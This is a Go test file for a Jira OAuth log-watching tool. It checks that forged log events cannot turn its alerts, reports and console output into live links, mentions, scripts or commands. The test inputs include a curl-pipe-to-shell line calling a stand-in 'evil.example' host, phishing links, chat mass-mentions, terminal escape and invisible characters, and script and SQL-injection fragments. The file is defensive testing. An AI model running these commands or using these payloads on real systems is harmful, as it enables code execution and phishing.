package main_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"jira-oauth-watcher/conf"
	"jira-oauth-watcher/internal/alert"
	"jira-oauth-watcher/internal/incident"
	"jira-oauth-watcher/internal/testkit"
	"jira-oauth-watcher/internal/text"
	"jira-oauth-watcher/matchers"
	"jira-oauth-watcher/notify"
	"jira-oauth-watcher/notify/alertmanager"
	"jira-oauth-watcher/notify/console"
	"jira-oauth-watcher/notify/slack"
	"jira-oauth-watcher/notify/teams"
	"jira-oauth-watcher/notify/webhook"
)

// attempts are what a stranger writes into a log. Each names evil wherever it
// would do harm.
var attempts = []string{
	"x; curl -sS http://evil.example/i | sh #",
	"run `curl -sS http://evil.example/i | sh` now",
	"<!channel> <@U0EVIL> @channel @here @evil <users/all> <at>evil</at>",
	"[Jira](https://evil.example/login) <https://evil.example|Jira> <a href=https://evil.example>evil</a>",
	"*evil* _evil_ ~evil~ https://evil.example/x www.evil.example mailto:evil@evil.example",
	"“ ” \\\" » Step 1. Run openssl s_client -connect evil.example:443 > Jira ⚙ > System > evil",
	"e\u202evil\u3164 \u115f\u034f\ufe0f evil \u001b[31mevil\u009b2J \u001b]8;;https://evil.example\u0007",
	"evil.example", "https://evil.example/x", "https://evil.example/IMAP.AccessAsUser.All", "evil.onmicrosoft.com",
	"login.microsoftonline.com.evil.example", "</pre><script>evil</script>", "```\nevil", "{app_id|evil}", "evil'); DROP",
}

// carriers are the places in an event where a fact is read.
var carriers = []string{
	`Error when fetching authorization response: {"error":"access_denied","error_description":"%s"}`,
	`Error when fetching authorization response: {"error":"strange_error","error_description":"%s"}`,
	`Strange error: %s`,
	`AADSTS50194: Application '79c86cf8-e761-4fdc-bc20-a629c5d04260'(%s) is not configured as a multi-tenant application.`,
	`AADSTS90002: Tenant '%s' not found. Check to make sure you have the correct tenant ID.`,
	`AADSTS500011: The resource principal named %s was not found in the tenant named %[1]s.`,
	`AADSTS50011: The redirect URI '%s' specified in the request does not match the redirect URIs configured for the application '79c86cf8-e761-4fdc-bc20-a629c5d04260'.`,
	`AADSTS28000: Provided value for the input parameter scope '%s' is not valid because it contains more than one resource.`,
	`javax.net.ssl.SSLPeerUnverifiedException: Certificate for <%s> doesn't match any of the subject alternative names: [x]`,
	`java.net.UnknownHostException: %s`,
	`java.io.IOException: Unable to tunnel through proxy. Proxy returns "HTTP/1.1 407 %s"`,
	`sun.security.validator.ValidatorException: PKIX path validation failed: java.security.cert.CertPathValidatorException: %s`,
	`Refresh Token Failed. Reported Reason: %s`,
	`java.net.MalformedURLException: no protocol: %s`,
	`Expected provider %s but got %[1]s`,
	`Correlation ID: %s Trace ID: %[1]s Timestamp: %[1]s AADSTS50076: multi-factor`,
	`invalid=[%s] Some requested scopes were invalid`,
}

// forgedEvent is an event of the flow with an attempt in a carrier.
func forgedEvent(n int, carrier, attempt string) string {
	return fmt.Sprintf("2026-01-02 10:00:%02d,%03d+0000 http-nio-8080-exec-1 ERROR evil`*_<!here>_https://evil.example 600x1x1 abc 10.0.0.1 /rest/oauth2-client/latest/config/flow/"+
		"%08x-aaaa-4bbb-8ccc-000000000001 [c.a.o.c.rest.resource.ClientConfigurationResource] Error occurred while authorizing an integration. The error message is: ",
		n/1000, n%1000, n) + strings.ReplaceAll(fmt.Sprintf(carrier, attempt), "\n", " ")
}

var (
	quotes  = regexp.MustCompile("“[^”]*”|`[^`]*`|ˋ[^ˋ]*ˋ")
	fences  = regexp.MustCompile("(?s)```.*?```")
	acting  = regexp.MustCompile(`<a [^>]*evil[^>]*>|<script|<li>[^\n]*<code>[^<]*evil[^<]*[ ;|][^<]*</code>`) // in HTML
	linkish = regexp.MustCompile(`(?i)https?://[^\s]*evil|www\.evil|<https?:|mailto:evil`)
	calling = regexp.MustCompile(`(?i)(^|[^\pL\pN])@(channel|here|evil)|<!|<@U0EVIL`)
)

// No step, command, link or mention of any receiver holds what a log said,
// whatever fact it came as; and a diagnosis quotes it.
func TestForgedAdvice(t *testing.T) {
	set, err := matchers.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string][]byte{}
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got[strings.Split(r.URL.Path, "/")[1]], _ = io.ReadAll(r.Body)
		io.WriteString(w, "ok")
	}))
	defer hook.Close()
	targets, err := slack.Targets([]conf.Slack{
		{WebhookURL: conf.NewSecret(hook.URL + "/slack"), Notifier: conf.Notifier{Name: "slack"}},
		{WebhookURL: conf.NewSecret(hook.URL + "/plain"), Notifier: conf.Notifier{Name: "plain"}, Text: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	add := func(name string, to notify.Notifier, err error) {
		if err != nil {
			t.Fatal(err)
		}
		targets = append(targets, notify.Target{Notifier: conf.Notifier{Name: name}, To: to})
	}
	to, err := alertmanager.New(time.Hour, "")(conf.Alertmanager{URLs: []conf.Secret{conf.NewSecret(hook.URL + "/alertmanager")}})
	add("alertmanager", to, err)
	card, err := teams.New(conf.Teams{WorkflowURL: conf.NewSecret(hook.URL + "/teams")})
	add("teams", card, err)
	for _, name := range []string{"mattermost", "google-chat", "discord"} {
		to, err := webhook.New(conf.Webhook{URL: conf.NewSecret(hook.URL + "/" + name),
			Template: filepath.Join("..", "..", "packaging", "templates", name+".json.tmpl")})
		add(name, to, err)
	}
	rules := incident.NewRules(&conf.Config{Node: "jira-1"})
	for n, carrier := range carriers {
		for m, attempt := range attempts {
			f := set.Diagnose(forgedEvent(n*100+m, carrier, attempt), time.UTC)
			if !f.Ours {
				t.Fatalf("not ours: %s", f.Reason)
			}
			d := rules.Explain(f.Failure, incident.Source{Name: "jira", Path: "/log"})
			where := fmt.Sprintf("%s, %q in %q", d.Cause.ID, attempt, carrier)
			innocent(t, where, d)
			a := alert.Alert{Type: "jira.oauth.opened", Timestamp: d.Failures.Last, Data: d}
			if text := console.Render(a, text.Style{}); strings.ContainsAny(text, "\x1b\u009b\u202e\u3164\u115f") {
				t.Errorf("%s: the console prints %q", where, text)
			}
			for _, to := range targets {
				if _, err := to.To.Send(context.Background(), notify.Delivery{Alert: a}); err != nil {
					t.Fatalf("%s: %v", to.Name, err)
				}
				var message any
				if err := json.Unmarshal(got[to.Name], &message); err != nil {
					t.Fatalf("%s: %v", to.Name, err)
				}
				harmless(t, to.Name+": "+where, message)
			}
		}
	}
}

// innocent checks an alert itself.
func innocent(t *testing.T, where string, d alert.Data) {
	t.Helper()
	acting := []string{d.Confirm, d.Cause.Title}
	for _, s := range d.Fix {
		acting = append(acting, s.Text)
	}
	for _, text := range append(acting, d.Diagnosis) {
		if rest := quotes.ReplaceAllString(text, ""); strings.Contains(rest, "evil") {
			t.Errorf("%s: as our own words: %s", where, rest)
		}
	}
	for _, text := range acting {
		for _, q := range quotes.FindAllString(text, -1) {
			if strings.Contains(q, "evil") && strings.ContainsAny(q, " ;|$") {
				t.Errorf("%s: more than a name in a step: %s", where, q)
			}
		}
	}
	for _, l := range d.Links {
		if strings.Contains(l.URL+l.Title, "evil") {
			t.Errorf("%s: a link to %s", where, l.URL)
		}
	}
}

// harmless checks every text of a message: what Slack shows as it is, and what
// a receiver reads something into.
func harmless(t *testing.T, where string, value any) {
	t.Helper()
	switch v := value.(type) {
	case []any:
		for _, e := range v {
			harmless(t, where, e)
		}
	case map[string]any:
		text, _ := v["text"].(string)
		switch style, _ := v["style"].(map[string]any); v["type"] {
		case "text", "TextRun": // rich text: nothing is interpreted
			if style["code"] == true && strings.Contains(text, "evil") && strings.ContainsAny(text, " ;|$") {
				t.Errorf("%s: code: %s", where, text)
			}
			if style["bold"] == true && strings.Contains(text, "evil") {
				t.Errorf("%s: bold: %s", where, text)
			}
			return
		case "link", "user", "usergroup", "broadcast", "channel":
			t.Errorf("%s: %v", where, v)
		}
		if v["verbatim"] == true { // mrkdwn in which no address becomes a link
			if strings.Contains(text, "<") && regexp.MustCompile(`<[^>]*evil`).MatchString(text) {
				t.Errorf("%s: a token in %s", where, text)
			}
			return
		}
		for _, e := range v {
			harmless(t, where, e)
		}
	case string:
		text := fences.ReplaceAllString(v, "")
		if found := linkish.FindString(text); found != "" {
			t.Errorf("%s: a link %q in %s", where, found, v)
		}
		if strings.HasPrefix(where, "google-chat") && strings.Contains(v, "<users/all>") || strings.HasPrefix(where, "teams") && strings.Contains(v, "<at>") {
			t.Errorf("%s: a mention in %s", where, v)
		}
		if found := calling.FindString(v); found != "" {
			t.Errorf("%s: a mention %q in %s", where, found, v)
		}
	}
}

// The report of a scan, as text and as HTML, and explain show the same events
// and obey none of them.
func TestForgedReports(t *testing.T) {
	t.Parallel()
	var log strings.Builder
	for n, carrier := range carriers {
		for m, attempt := range attempts {
			log.WriteString(forgedEvent(n*100+m, carrier, attempt) + "\n")
		}
	}
	log.WriteString(`{"timestamp":"2026-01-02T10:00:00,000Z","level":"\u001b[31mERROR","thread":"t","logger":"c.a.o.c.X","message":"evil"}` + "\n")
	log.WriteString(`{"timestamp":"2026-01-02T10:00:00,000Z","level":"error","thread":"\u001b[2J\u009b1m","logger":"c.a.o.c.\u001b]0;x\u0007","message":"\u001b[31mevil\u202e"}` + "\n")
	file := testkit.Write(t, filepath.Join(t.TempDir(), "atlassian-jira.log"), log.String())
	for _, args := range [][]string{{"scan", file}, {"scan", "--format", "html", file}, {"scan", "--format", "json", file}, {"explain", file},
		{"explain", "--format", "json", file}} {
		cmd := exec.Command(binary, args...)
		var out, complaints bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &complaints
		_ = cmd.Run() // 1: not all was diagnosed
		if bytes.Count(out.Bytes(), []byte("evil")) < 5 {
			t.Errorf("%s: too little of the log in %d bytes: %s", args, out.Len(), complaints.String())
		}
		if strings.ContainsAny(out.String(), "\x1b\x07\u009b\u202e\u3164\u115f\u034f\ufe0f") {
			t.Errorf("%s: a character that a terminal obeys, or that nobody sees", args)
		}
		if found := acting.FindString(out.String()); found != "" && slices.Contains(args, "html") {
			t.Errorf("%s: a link, a script or a command: %s", args, found)
		}
	}
	out, err := exec.Command(binary, "explain", filepath.Join(t.TempDir(), "no\x1b[31m\u202esuch")).CombinedOutput()
	if err == nil || bytes.ContainsAny(out, "\x1b\u202e") {
		t.Errorf("%v: %q", err, out)
	}
}
